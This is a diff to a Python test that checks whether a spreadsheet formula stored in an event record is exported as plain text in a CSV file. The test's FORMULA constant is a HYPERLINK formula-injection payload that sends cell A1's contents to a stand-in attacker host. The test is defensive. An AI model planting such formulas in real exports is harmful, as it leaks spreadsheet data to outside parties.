@@ -3,8 +3,7 @@
 import csv
 import io
 
-from cooperation.models import Delegation
-from cooperation.records import derived
+from cooperation import records
 
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
 
@@ -15,8 +14,9 @@ def read_csv(response):
 
 
 def test_a_formula_in_a_record_reaches_a_spreadsheet_as_text(client, admin_client, world):
-    Delegation.objects.filter(pk=world.published.pk).update(title=FORMULA, summary="-2+3")
-    derived.refresh([world.published.pk])
+    world.published.title = FORMULA
+    world.published.summary = "-2+3"
+    records.save(world.published)
 
     header, *rows = read_csv(client.get("/events/export.csv"))
     row = dict(zip(header, rows[0], strict=True))
